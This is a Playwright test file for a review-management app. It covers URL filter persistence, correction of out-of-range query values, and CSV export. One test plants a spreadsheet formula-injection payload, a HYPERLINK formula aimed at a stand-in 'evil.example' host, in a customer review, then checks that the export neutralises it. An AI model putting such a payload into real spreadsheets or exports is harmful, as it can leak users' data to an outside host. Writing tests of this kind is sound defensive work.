import { readFile } from 'node:fs/promises';
import { FORMULA_TRIGGERS } from '@review-desk/shared/csv';
import Papa from 'papaparse';
import { expect, test } from './fixtures.ts';
import { chooseChannel } from './support/channel.ts';
import { totalShown } from './support/pages.ts';

test('filters in the URL survive reload, Back and Forward', async ({ signedIn }) => {
  const page = await signedIn('owner');
  await page.goto('/reviews');
  await page.getByLabel('Status').selectOption('responded');
  await expect(page).toHaveURL(/\/reviews\?status=responded$/);
  await page.getByLabel('Rating', { exact: true }).selectOption('4-5');
  await expect(page).toHaveURL(/\/reviews\?status=responded&minRating=4$/);
  await expect(page.getByTestId('page-range')).toContainText('1–20 of');
  const total = await totalShown(page);

  await page.getByRole('button', { name: 'Next' }).click();
  await expect(page).toHaveURL(/\?status=responded&minRating=4&page=2$/);
  await expect(page.getByTestId('page-range')).toHaveText(`21–40 of ${total}`);

  await page.reload();
  await expect(page.getByLabel('Status')).toHaveValue('responded');
  await expect(page.getByLabel('Rating', { exact: true })).toHaveValue('4-5');
  await expect(page.getByTestId('page-range')).toHaveText(`21–40 of ${total}`);

  await page.goBack();
  await expect(page).toHaveURL(/\?status=responded&minRating=4$/);
  await expect(page.getByTestId('page-range')).toHaveText(`1–20 of ${total}`);
  await page.goBack();
  await expect(page).toHaveURL(/\?status=responded$/);
  await expect(page.getByLabel('Rating', { exact: true })).toHaveValue('any');
  await page.goForward();
  await expect(page.getByLabel('Rating', { exact: true })).toHaveValue('4-5');
  await expect(page.getByTestId('page-range')).toHaveText(`1–20 of ${total}`);
});

test('an out-of-range URL is corrected, not crashed on', async ({ signedIn }) => {
  const page = await signedIn('owner');
  await page.goto('/reviews?minRating=9&limit=500&page=0&status=deleted');
  await expect(page).toHaveURL(/\/reviews\?minRating=5&limit=100$/);
  await expect(page.getByText('The address was corrected')).toBeVisible();
  await expect(page.getByTestId('review-row').first()).toBeVisible();
});

test('Export CSV downloads every review matching the filters', async ({ signedIn }) => {
  const page = await signedIn('owner');
  await page.goto('/reviews?status=responded&minRating=4');
  await expect(page.getByTestId('page-range')).toContainText('of');
  const total = await totalShown(page);
  expect(total, 'the demo data has more than one export page of these').toBeGreaterThan(100);

  const download = page.waitForEvent('download');
  await page.getByRole('button', { name: 'Export CSV' }).click();
  const file = await download;
  expect(file.suggestedFilename()).toMatch(/^reviews-responded-4-stars-up-\d{4}-\d{2}-\d{2}\.csv$/);
  const text = (await readFile(await file.path(), 'utf8')).replace(/^\ufeff/, '');
  const parsed = Papa.parse<Record<string, string>>(text, { header: true, skipEmptyLines: true });
  expect(parsed.errors).toEqual([]);
  expect(parsed.data).toHaveLength(total);
  expect(new Set(parsed.data.map((row) => row.id)).size).toBe(total);
  for (const row of parsed.data) {
    expect(row.response_status).toBe('responded');
    expect(Number(row.rating)).toBeGreaterThanOrEqual(4);
  }
  await expect(page.getByText(`${total} reviews exported.`)).toBeVisible();
});

test('Export CSV writes a customer’s formula-like name and multi-line review as text, not formulas', async ({
  signedIn,
}) => {
  // A request by link, whose customer leaves a review that would run as a formula in a spreadsheet.
  const stamp = `${Date.now()}-${test.info().workerIndex}`;
  const name = `=SUM(1;2) Ana ${stamp}`;
  const comment = `=HYPERLINK("http://evil.example/?leak","Open")\nsecond line ${stamp}`;
  const staff = await signedIn('staff');
  await staff.goto('/send');
  await chooseChannel(staff, 'Link');
  await staff.getByLabel('Customer name').fill(name);
  await staff.getByRole('button', { name: 'Create link' }).click();
  const link = await staff.getByTestId('send-result').getByTestId('review-link').inputValue();
  const customer = await staff.context().newPage();
  await customer.goto(link);
  await customer.getByLabel(/5 stars/).check();
  await customer.getByLabel(/Anything you would like to tell us/).fill(comment);
  await customer.getByRole('button', { name: 'Send feedback' }).click();
  await expect(customer.getByRole('heading', { name: 'Thank you!' })).toBeVisible();

  const owner = await signedIn('owner');
  await owner.goto('/reviews?status=pending&minRating=5');
  await expect(owner.getByTestId('page-range')).toContainText('of');
  const download = owner.waitForEvent('download');
  await owner.getByRole('button', { name: 'Export CSV' }).click();
  const text = (await readFile(await (await download).path(), 'utf8')).replace(/^\ufeff/, '');
  const parsed = Papa.parse<Record<string, string>>(text, { header: true, skipEmptyLines: true });
  expect(parsed.errors).toEqual([]);

  const lines = (s: string | undefined) => (s ?? '').replace(/\r\n/g, '\n');
  const row = parsed.data.find((r) => lines(r.text).includes(stamp));
  expect(row, 'the new review is in the export').toBeDefined();
  expect(lines(row!.text)).toBe(`'${comment}`);
  expect(row!.author_name).toBe(`'${name}`);
  // No text cell of the file starts as a formula.
  for (const r of parsed.data)
    for (const column of ['author_name', 'text', 'response_text'])
      expect(FORMULA_TRIGGERS, `${column} of ${r.id}`).not.toContain((r[column] ?? '').charAt(0));
});
